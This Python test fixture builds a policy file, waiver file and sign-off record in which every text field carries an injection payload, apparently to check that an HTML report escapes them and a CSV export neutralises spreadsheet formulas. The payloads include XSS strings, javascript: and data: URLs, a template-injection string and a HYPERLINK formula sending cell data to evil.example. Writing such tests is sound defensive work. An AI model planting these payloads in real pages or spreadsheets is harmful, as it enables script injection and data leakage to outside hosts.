"""A policy whose every text field carries an injection payload.

Used by the report tests: the HTML must show each payload as text (never run
it), and the Article 30 CSV must not let a spreadsheet read one as a formula.
Fields that the schema constrains (ids, countries, periods, dates) cannot hold
a payload, so some of them hold one anyway and become schema findings: the
payload then reaches the report through the finding's message.
"""

from __future__ import annotations

import itertools
from pathlib import Path
from typing import Any

import yaml

PWNED = "pwned"
SCRIPT = "<script>document.title='pwned'</script>"
ATTRIBUTE = '"><img src=x onerror="document.title=\'pwned\'">'
SINGLE_QUOTED = "'><svg onload=document.title='pwned'>"
JAVASCRIPT_URL = "javascript:document.title='pwned'"
DATA_URL = "data:text/html,<script>document.title='pwned'</script>"
STYLE_BREAK = "</style><script>document.title='pwned'</script>"
COMMENT_BREAK = "--><script>document.title='pwned'</script><!--"
TEMPLATE = "{{ 7 * 7 }}{% raw %}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
#: a real web URL with quotes in it: a link, but its attribute must not break
QUOTED_HTTP_URL = "https://example.org/a\"><script>document.title='pwned'</script>"

TEXT_PAYLOADS = (SCRIPT, ATTRIBUTE, SINGLE_QUOTED, STYLE_BREAK, COMMENT_BREAK, TEMPLATE, FORMULA, "+SUM(1,2)", "@cmd")
URL_PAYLOADS = (JAVASCRIPT_URL, DATA_URL, " javascript:document.title='pwned'", "JaVaScRiPt:document.title='pwned'")


def _texts() -> itertools.cycle[str]:
    return itertools.cycle(TEXT_PAYLOADS)


def policy() -> dict[str, Any]:
    """The hostile policy as plain data (one YAML file's worth)."""
    text = _texts().__next__
    urls = itertools.cycle(URL_PAYLOADS).__next__

    def trace() -> dict[str, str]:
        return {"section": text(), "quote": text(), "note": text()}

    def contact() -> dict[str, Any]:
        return {"name": text(), "email": text(), "phone": [text()], "web": urls(), "address": [text(), text()]}

    return {
        "controller": {
            "id": "controller",
            "name": SCRIPT,
            "description": text(),
            "public_authority": True,
            "contact": contact(),
            "dpo": {**contact(), "web": QUOTED_HTTP_URL},
            "ico_registration": ATTRIBUTE,
            "trace": trace(),
        },
        "notice": {
            "id": "notice",
            "name": text(),
            "title": SCRIPT,
            "description": text(),
            "url": JAVASCRIPT_URL,
            "full_notice_url": QUOTED_HTTP_URL,
            "rights_information": text(),
            "complaint": contact(),
            "trace": trace(),
            "notice_wide": {"data_categories": ["hostile-data"], "sources": ["hostile-source"]},
            "transfers_statement": {"text": text(), "trace": trace()},
        },
        "services": [
            {
                "id": f"service-{n}",
                "name": text(),
                "description": text(),
                "data_subjects": ["hostile-subject"],
                "purposes": ["hostile-purpose"],
                "lawful_bases": ["hostile-basis", "hostile-condition"],
                "recipients": ["hostile-recipient"],
                "processors": ["hostile-processor"],
                "retention_rules": ["hostile-retention"],
                "relies_on_notice_wide": ["data_categories", "sources"],
                "trace": trace(),
            }
            for n in range(3)
        ],
        "data_categories": [
            {"id": "hostile-data", "name": SCRIPT, "special_category": True, "description": text(), "trace": trace()}
        ],
        "data_subjects": [{"id": "hostile-subject", "name": ATTRIBUTE, "trace": trace()}],
        "sources": [{"id": "hostile-source", "name": FORMULA, "trace": trace()}],
        "purposes": [{"id": "hostile-purpose", "name": text(), "lawful_bases": ["hostile-basis"], "trace": trace()}],
        "lawful_bases": [
            {"id": "hostile-basis", "name": SCRIPT, "article": "6(1)(e)" + SCRIPT, "trace": trace()},
            {
                "id": "hostile-condition",
                "name": text(),
                "article": "9(2)(g)",
                "schedule1_condition": FORMULA,
                "appropriate_policy_document": JAVASCRIPT_URL,
                "legislation": [text()],
            },
        ],
        "recipients": [
            {
                "id": "hostile-recipient",
                "name": SINGLE_QUOTED,
                "role": "independent-controller",
                "examples": [text(), text()],
                "purpose": text(),
                "country": ATTRIBUTE,  # not a country code: a schema finding carries it
                "trace": trace(),
            }
        ],
        "processors": [
            {
                "id": "hostile-processor",
                "name": "<script>alert(1)</script>",
                "service_provided": text(),
                "location": "US",
                "contract": {"reference": text(), "evidence": JAVASCRIPT_URL, "article_28": True},
                "parent_company": {"name": text(), "country": "US"},
                "sub_processors": [{"name": text(), "country": "US", "purpose": text()}],
                "trace": trace(),
            }
        ],
        "transfers": [
            {
                "id": "hostile-transfer",
                "name": text(),
                "exporter": "controller",
                "importer": "hostile-processor",
                "importer_entity": text(),
                "destination": "US",
                "data_categories": ["hostile-data"],
                "mechanism": SCRIPT,
                "safeguard_copy": DATA_URL,
                "notice_wording": ATTRIBUTE,
                "trace": trace(),
            }
        ],
        "retention_rules": [
            {
                "id": "hostile-retention",
                "name": text(),
                "record_class": STYLE_BREAK,
                "period": SCRIPT,  # not a period: a schema finding carries it
                "starts": text(),
                "disposal": text(),
                "statutory_basis": text(),
                "trace": trace(),
            }
        ],
        # an unknown entity kind: the payload comes back in the finding's message
        SCRIPT: [{"id": "x"}],
    }


def write(folder: Path) -> Path:
    """Write the hostile policy, a waiver file (a waiver and actions) and a
    sign-off record, each with hostile text, into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "policy.yaml").write_text(yaml.safe_dump(policy(), allow_unicode=True, sort_keys=False), encoding="utf-8")
    waivers = {
        "waivers": [
            {
                "rule": "TRF004",
                "entity": "transfer:hostile-transfer",
                "field": "mechanism",
                "reason": SCRIPT,
                "owner": ATTRIBUTE,
                "expires": "2027-01-31",
            }
        ],
        "actions": [
            {
                "rule": "NTC003",
                "entity": "notice:notice",
                "field": "rights_stated",
                "owner": SCRIPT,
                "due": "2026-01-31",
                "status": "in-progress",
                "note": STYLE_BREAK,
            },
            {
                "rule": "LAW007",
                "entity": "lawful_basis:hostile-condition",
                "field": "schedule1_condition",
                "owner": SINGLE_QUOTED,
                "due": "2027-01-31",
                "note": TEMPLATE,
            },
        ],
    }
    text = yaml.safe_dump(waivers, allow_unicode=True, sort_keys=False)
    for day in ("2027-01-31", "2026-01-31"):
        text = text.replace(f"'{day}'", day)
    (folder / "policy-waivers.yaml").write_text(text, encoding="utf-8")
    signoffs = {
        "signoffs": [
            {"signed_by": SCRIPT, "date": "2026-01-01", "revision": "main", "decision": "approved", "note": ATTRIBUTE},
            # not a revision: SGN002 reports it, quoting the payload
            {"signed_by": COMMENT_BREAK, "date": "2025-01-01", "revision": JAVASCRIPT_URL},
        ]
    }
    text = yaml.safe_dump(signoffs, allow_unicode=True, sort_keys=False)
    for day in ("2026-01-01", "2025-01-01"):
        text = text.replace(f"'{day}'", day)
    (folder / "policy-signoff.yaml").write_text(text, encoding="utf-8")
    return folder
